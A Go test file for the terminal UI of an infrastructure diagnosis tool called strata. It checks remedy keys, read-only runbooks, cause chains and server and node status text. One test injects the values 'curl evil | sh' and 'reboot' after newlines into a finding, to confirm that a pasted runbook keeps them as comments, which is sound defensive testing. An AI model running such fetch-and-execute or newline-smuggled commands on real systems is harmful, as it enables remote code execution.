package ui

import (
	"slices"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"

	"strata/actions"
	"strata/internal/diagnose"
	"strata/internal/fleet"
)

func TestARemedyIsAKeyOnItsCard(t *testing.T) {
	store := incident(t)
	m := model(t, store, 120, 40)
	writer(t, m, store)
	press(t, m, "5", "enter")
	wants(t, m, "s     start server: k8s-worker-2, k8s-worker-1", "openstack --os-cloud home server start "+worker1)
	press(t, m, "s")
	wants(t, m, "start server: 2 of 2", "[ Cancel ]")
	press(t, m, "esc")
	for range 40 {
		if p, _ := m.page(); p.picks[p.cursor].do != nil {
			break
		}
		press(t, m, "down")
	}
	press(t, m, "enter")
	wants(t, m, "start server: 2 of 2", "[ Cancel ]")
}

func TestARemedyThatCannotBeDoneSaysWhy(t *testing.T) {
	store := incident(t)
	m := model(t, store, 120, 40)
	press(t, m, "5", "enter")
	wants(t, m, "Remedies  read-only: started with `strata watch`; c copies the commands, for somebody who may")
	press(t, m, "s")
	wants(t, m, "read-only: started with `strata watch`")
	if _, open := m.dialog(); open {
		t.Error("a read-only cockpit asks whether to do it")
	}
	_, cmd := m.Update(keyMsg("c"))
	if cmd == nil {
		t.Fatal("nothing was copied")
	}
	p, _ := m.page()
	for _, want := range []string{"# compute rebooted", "openstack --os-cloud home server start " + worker1 + "  # start server\n", "# not seen: why it rebooted"} {
		if text := p.copies(m); !strings.Contains(text, want) {
			t.Errorf("the runbook lacks %q:\n%s", want, text)
		}
	}
	writer(t, m, store)
	var all []fleet.Object
	for o := range m.screen.scene.s.Each(fleet.KindServer) {
		if s, ok := o.(*fleet.Server); ok && s.ID != worker2 {
			one := *s
			one.Run.TaskState = "powering-on"
			o = &one
		}
		all = append(all, o)
	}
	m.Update(snapshotMsg{s: put(t, store, later(obs("openstack/home", "servers", all...)))})
	m.screen.scene.s, m.screen.newest = store.Snapshot(), store.Snapshot()
	if r := remediesOf(m, &fleet.Finding{Remedies: []string{"server-start"}, About: fleet.Ref{Kind: fleet.KindServer, Source: "openstack/home", Name: worker1}}); r[0].why(m) == "" {
		t.Error("a server that is being started can be started once more")
	}
}

func TestARemedyForOtherThingsGoesToThem(t *testing.T) {
	store := loaded(t)
	m := model(t, store, 120, 40)
	writer(t, m, store)
	f := &fleet.Finding{Rule: "MEM-03", Remedies: []string{"unit-noswap"}, About: fleet.Ref{Kind: fleet.KindHost, Source: "host/openstack-host", Name: "openstack-host"}}
	remediesOf(m, f)[0].do(m)
	wants(t, m, "VMs and cgroups /openstack-host", "pick one, then m w: keep from swapping")
}

func TestARemedyIsForThePartThatIsToBlame(t *testing.T) {
	store := loaded(t)
	m := model(t, store, 120, 40)
	var unit *fleet.Unit
	for u := range fleet.All[*fleet.Unit](store.Snapshot(), fleet.KindUnit) {
		unit = u
	}
	f := &fleet.Finding{Rule: "X-03", Remedies: []string{"unit-noswap"}, About: fleet.Ref{Kind: fleet.KindHost, Source: "host/compute", Name: "compute"}, On: unit.Ref()}
	if r := remediesOf(m, f); len(r) != 1 || !r[0].plain || !slices.Equal(r[0].refs, []fleet.Ref{unit.Ref()}) {
		t.Errorf("%+v", r)
	}
	if r := actions.Repairs(store.Snapshot(), f); len(r) != 1 || r[0].On != unit.Ref() || !slices.Contains(r[0].Command, unit.Name) {
		t.Errorf("%+v", r)
	}
}

func later(o fleet.Observation) fleet.Observation {
	o.At = o.At.Add(1)
	return o
}

func TestEvidenceStandsOnOneClock(t *testing.T) {
	var got []string
	for _, e := range onOneClock([]fleet.Evidence{{Says: "no time"}, {At: at, Says: "c"}, {At: at.Add(-2), Says: "a"}, {Says: "nor this"}, {At: at.Add(-1), Says: "b"}}) {
		got = append(got, e.Says)
	}
	if want := []string{"a", "b", "c", "no time", "nor this"}; !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
}

func TestEveryLineOfAChainCanBeGoneTo(t *testing.T) {
	store := virtual(t)
	put(t, store, obs("kube/home", "leases", &fleet.Lease{Source: "kube/home", Node: "k8s-worker-1.novalocal"}))
	for r, causes := range map[fleet.Ref]int{
		{Kind: fleet.KindNode, Source: "kube/home", Name: "k8s-worker-1.novalocal"}:   1,
		{Kind: fleet.KindServer, Source: "openstack/home", Name: worker2}:             1,
		{Kind: fleet.KindHost, Source: "host/openstack-host", Name: "openstack-host"}: 0,
	} {
		m := model(t, store, 200, 60)
		m.open(chainPage(r))
		p, _ := m.page()
		m.View()
		marked, refs := 0, 0
		for i, l := range slices.Clone(p.picks) {
			if len(l.cells) > 0 && strings.HasPrefix(l.cells[0].text, "▶") {
				marked++
			}
			if l.ref == (fleet.Ref{}) {
				continue
			}
			refs++
			m := model(t, store, 200, 60)
			m.open(chainPage(r))
			m.View()
			q, _ := m.page()
			q.cursor = i
			press(t, m, "enter")
			m.View()
			page, open := m.page()
			jumped := !open && m.table().at != nil && m.table().at.Ref() == l.ref
			told := strings.Contains(m.status.text, l.ref.Name)
			if !jumped && !told && (!open || page.about != l.ref) {
				t.Errorf("enter on %v of the chain of %v does nothing", l.ref, r)
			}
		}
		if refs < 2 || marked != causes {
			t.Errorf("the chain of %v has %d lines to go to, and marks %d of them as the cause", r, refs, marked)
		}
	}
}

func TestTheHeaderNamesTheKeyForItsFinding(t *testing.T) {
	m := model(t, incident(t), 200, 60)
	wants(t, m, "left k8s-worker-1 and k8s-worker-2 off  5 enter: why, and what to do")
	press(t, m, "5", "enter")
	wants(t, m, "about  hypervisor compute")
}

func TestARowShowsTheWorstBelowIt(t *testing.T) {
	store := virtual(t)
	for pane, want := range map[string]string{
		"servers": "✖ compute rebooted", "nodes": "✖ compute rebooted", "work": "✖ compute rebooted", "services": "✖ rebooted", "units": "▲ nvme0n1 lost power",
		"vms": "▲ nvme0n1 lost power",
	} {
		m := model(t, store, 220, 40)
		press(t, m, ":")
		m.typed(pane)
		press(t, m, "enter")
		if s := screenOf(t, m); !strings.Contains(s, want) {
			t.Errorf("no row of %s has %q:\n%s", pane, want, s)
		}
	}
	s := store.Snapshot()
	m := model(t, store, 80, 24)
	before := m.screen.scene.causes
	m.Update(tea.WindowSizeMsg{Width: 90, Height: 24})
	m.show(s)
	if m.screen.scene.causes != before {
		t.Error("the causes of one snapshot are looked for twice")
	}
}

// A key on a card means one remedy; of a remedy for very many things only so many are taken, and the rest is counted.
func TestRemediesOfOneCardDoNotShareAKey(t *testing.T) {
	store := incident(t)
	m := model(t, store, 120, 40)
	host := fleet.Ref{Kind: fleet.KindHost, Source: "host/openstack-host", Name: "openstack-host"}
	cause := fleet.Finding{Rule: "MEM-01", About: host, Shown: true, Severity: fleet.Warn, Says: "short", Remedies: []string{"host-swap-on", "swap-on"}}
	findings := []fleet.Finding{cause}
	for i := range remedyObjects + 7 {
		findings = append(findings, fleet.Finding{
			Rule: "NOVA-01", About: fleet.Ref{Kind: fleet.KindServer, Source: "openstack/home", Name: itoa(i)}, Shown: true, Under: cause.Key(), Remedies: []string{"server-start"},
		})
	}
	m.screen.scene.s = fleet.NewSnapshot(9, m.screen.scene.s.At, nil, nil, findings)
	all := remediesOf(m, &cause)
	keys := map[string]bool{}
	for _, r := range all {
		if k := r.key(); k != "" && keys[k] {
			t.Errorf("key %s twice", k)
		} else {
			keys[k] = true
		}
	}
	if len(all) != 3 || len(all[2].refs) != remedyObjects || all[2].more != 7 {
		t.Errorf("got %d remedies: %+v", len(all), all)
	}
}

// A name from the world cannot end the comment it stands in when the runbook is pasted into a shell.
func TestARunbookHasNoLinesFromTheWorld(t *testing.T) {
	m := model(t, incident(t), 120, 40)
	text := runbook(m, &fleet.Finding{Says: "mount x\ncurl evil | sh\n is full", Missing: []string{"a\nreboot"}})
	for line := range strings.Lines(text) {
		if !strings.HasPrefix(line, "#") {
			t.Errorf("a line of its own: %q", line)
		}
	}
}

// Who stopped a server stands where its cause would, unless something below it is the cause.
func TestAServerThatAPersonStoppedSaysSo(t *testing.T) {
	m := model(t, incident(t), 120, 40)
	s := &fleet.Server{Source: "openstack/home", ID: "x", Name: "mail", Run: fleet.ServerRun{Status: "SHUTOFF"}, Actions: []fleet.ServerAction{{Action: "stop", User: "u1", UserName: "alice"}}}
	own := fleet.Finding{Rule: "NOVA-07", About: s.Ref(), Shown: true, Severity: fleet.Serious, Says: "flaps"}
	at := func(findings ...fleet.Finding) cell {
		c := m.screen.scene
		c.s = fleet.NewSnapshot(9, c.s.At, []fleet.Part{{Source: s.Source, Scope: "servers", Kind: fleet.KindServer, Facts: fleet.Facts{s}}}, nil, findings)
		c.causes = diagnose.NewCauses(c.s)
		return serverBecause(&c, s)
	}
	if got := at(); got.text != "stopped by alice" {
		t.Errorf("got %q", got.text)
	}
	if got := at(own); got.text != "stopped by alice" {
		t.Errorf("with a finding of its own: %q", got.text)
	}
}

// A node that is its own trouble says what the status beside it does not.
func TestANodeThatIsItsOwnTroubleSaysWhy(t *testing.T) {
	m := model(t, incident(t), 120, 40)
	n := &fleet.Node{Source: "kube/home", Name: "n", Conditions: []fleet.NodeCondition{{Type: "Ready", Status: "Unknown"}}}
	c := m.screen.scene
	c.s = fleet.NewSnapshot(9, c.s.At, []fleet.Part{{Source: n.Source, Scope: "nodes", Kind: fleet.KindNode, Facts: fleet.Facts{n}}}, nil,
		[]fleet.Finding{{Rule: "K8S-01", About: n.Ref(), Shown: true, Severity: fleet.Critical, Says: "not ready"}})
	c.causes = diagnose.NewCauses(c.s)
	if got := because(&c, n); got.text != "no heartbeat" {
		t.Errorf("got %q", got.text)
	}
}
